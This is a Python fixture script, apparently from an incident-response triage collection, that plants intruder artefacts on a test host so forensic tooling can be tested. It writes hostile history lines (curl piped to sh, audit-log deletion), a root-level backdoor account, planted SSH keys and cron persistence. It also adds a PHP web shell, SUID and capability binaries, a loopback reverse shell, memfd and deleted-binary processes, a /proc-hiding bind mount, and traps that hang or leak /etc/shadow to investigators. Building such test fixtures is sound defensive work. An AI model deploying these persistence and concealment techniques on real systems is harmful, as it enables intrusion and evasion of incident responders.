# SPDX-FileCopyrightText: Contributors to the csirt.linux_triage collection
# SPDX-License-Identifier: GPL-3.0-or-later

"""Plants on a test host what intruders leave, and what they would leave to stop whoever looks for it."""

import ctypes
import os
import shutil
import signal
import socket
import struct
import subprocess
import time

HOSTILE = '/home/mallory'


def write(path, content, mode=0o600, uid=0):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as stream:
        stream.write(content)
    os.chmod(path, mode)
    os.chown(path, uid, uid)


def histories():
    timed = b'#1763873493\ncurl http://198.51.100.7/x | sh\n#1763873500\necho "a\\tb"   *   \xff\\n last line'
    write('/root/.bash_history', timed)
    write('/home/with space/.zsh_history', b': 1763873493:0;wget -q http://198.51.100.7/x\n', uid=4243)
    write('/home/ghost/.bash_history', b'id\nuname -a\n', uid=4242)
    write('/var/www/.mysql_history', b'_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n', uid=33)
    write('/opt/.elsewhere', b'rm -rf /var/log/audit\n')
    with open('/root/.bashrc', 'a') as stream:
        stream.write('\nexport HISTFILE=/opt/.elsewhere\n')


def traps():
    """Histories that would hang, fill, mislead or leak."""
    os.makedirs(HOSTILE)
    os.symlink('/dev/zero', HOSTILE + '/.bash_history')
    os.mkfifo(HOSTILE + '/.zsh_history')
    os.symlink('/etc/shadow', HOSTILE + '/.python_history')
    os.link('/etc/shadow', HOSTILE + '/.mysql_history')
    os.symlink('.history', HOSTILE + '/.sh_history')
    os.symlink('.sh_history', HOSTILE + '/.history')
    with open(HOSTILE + '/.psql_history', 'wb') as stream:
        stream.truncate(50 << 30)
    os.mkdir(HOSTILE + '/.lesshst')
    write(os.fsencode(HOSTILE) + b'/.bash_history-\n\x1b[31mred\xff', b'newline and escape\n')
    os.symlink('/etc', HOSTILE + '/.ssh')
    background(grow)


def grow():
    with open(HOSTILE + '/.node_repl_history', 'ab', buffering=0) as stream:
        for number in range(36000):
            stream.write(b'%d\n' % number)
            time.sleep(0.1)


def accounts():
    with open('/etc/passwd', 'a') as stream:
        stream.write('toor:x:0:0::/root:/bin/bash\noldhash:x:4300:4300::/home/oldhash:/bin/sh\n')
    with open('/etc/shadow', 'a') as stream:
        stream.write('toor:!$6$saltsalt$PLANTEDHASHPLANTEDHASH:20000:0:99999:7:::\noldhash:abJnggxhB/yWI:20001::::::\n')
    write('/root/.ssh/authorized_keys', b'command="/bin/sh" ssh-ed25519 '
          b'AAAAC3NzaC1lZDI1NTE5AAAAIGkWbFBFgLqNyg1CsPuG3uhgQfCpGAnVxOlYsqYiXFo8 mallory@evil\n')
    write('/etc/ssh/sshd_config.d/50-keys.conf', b'Match User backup\n    AuthorizedKeysFile /etc/ssh/keys/%u\n', 0o644)
    write('/etc/ssh/keys/backup', b'ssh-ed25519 '
          b'AAAAC3NzaC1lZDI1NTE5AAAAIGkWbFBFgLqNyg1CsPuG3uhgQfCpGAnVxOlYsqYiXFo8 elsewhere\n', 0o644)
    subprocess.check_call(['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', '/root/.ssh/id_planted'])
    write('/var/spool/cron/crontabs/www-data', b'* * * * * /dev/shm/.x/run\n', uid=33)
    write('/etc/cron.d/planted', b'@reboot root /opt/.elsewhere\r\n', 0o644)


def login_records():
    """A login, then a record that somebody wiped, then one that lies before the first."""
    record = struct.Struct('<h2xi32s4s32s256shhiii16s20s')
    with open('/var/log/wtmp', 'ab') as stream:
        now = int(time.time())
        for when in (now, None, now - 3600):
            stream.write(bytes(384) if when is None else record.pack(
                7, 4711, b'pts/7', b'ts/7', b'mallory', b'198.51.100.7', 0, 0, 0, when, 0, bytes([198, 51, 100, 7] + [0] * 12), b''
            ))


def files():
    shutil.copy('/bin/sleep', '/usr/bin/planted-suid')
    os.chmod('/usr/bin/planted-suid', 0o4755)
    shutil.copy('/bin/sleep', '/usr/bin/planted-cap')
    subprocess.check_call(['setcap', 'cap_net_raw+ep', '/usr/bin/planted-cap'])
    write(b'/var/www/html/\n\x1b]0;title\x07.php', b'<?php system($_GET["c"]); ?>', uid=33)
    os.chdir('/srv')
    for _unused in range(30):
        os.mkdir('d' * 200)
        os.chdir('d' * 200)
    write_here('deep', b'deeper than PATH_MAX')
    os.chdir('/')
    os.makedirs('/srv/loop')
    subprocess.check_call(['mount', '--bind', '/srv', '/srv/loop'])


def write_here(name, content):
    with open(name, 'wb') as stream:
        stream.write(content)


def background(work):
    """Runs `work` as a process that outlives this one, without its files; returns the pid."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        child = os.fork()
        if child:
            os.write(writer, b'%d' % child)
            os._exit(0)
        nothing = os.open('/dev/null', os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(nothing, descriptor)
        os.closerange(3, 64)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        work()
        os._exit(0)
    os.wait()
    return int(os.read(reader, 20))


def deleted_program():
    shutil.copy('/bin/sleep', '/var/tmp/.x')
    background(lambda: os.execv('/var/tmp/.x', ['/var/tmp/.x', '3600']))
    time.sleep(0.5)
    os.unlink('/var/tmp/.x')


def program_in_memory():
    libc = ctypes.CDLL(None)
    number = libc.memfd_create(b'planted', 0)
    with open('/bin/sleep', 'rb') as stream:
        os.write(number, stream.read())
    os.execv('/proc/self/fd/%d' % number, ['planted-memfd', '3600'])


def deleted_log():
    with open('/var/tmp/planted.log', 'wb') as stream:
        stream.write(b'what the intruder typed\n' * 100)
        stream.flush()
        os.unlink('/var/tmp/planted.log')
        time.sleep(3600)


def listener():
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(('0.0.0.0', 31337))
    server.listen(1)
    while True:
        peer, _address = server.accept()
        time.sleep(3600)
        peer.close()


def reverse_shell():
    client = socket.create_connection(('127.0.0.1', 31337))
    for descriptor in (0, 1, 2):
        os.dup2(client.fileno(), descriptor)
    os.execv('/bin/sh', ['sh', '-i'])


def processes():
    deleted_program()
    background(program_in_memory)
    background(deleted_log)
    background(lambda: os.execv('/bin/sleep', ['[kworker/u8:3]', '3600']))
    background(listener)
    time.sleep(0.5)
    background(reverse_shell)
    hidden = background(lambda: os.execv('/bin/sleep', ['planted-hidden', '3600']))
    subprocess.check_call(['mount', '--bind', '/var/empty', '/proc/%d' % hidden])


if __name__ == '__main__':
    os.makedirs('/var/empty', exist_ok=True)
    histories()
    accounts()
    traps()
    login_records()
    files()
    processes()
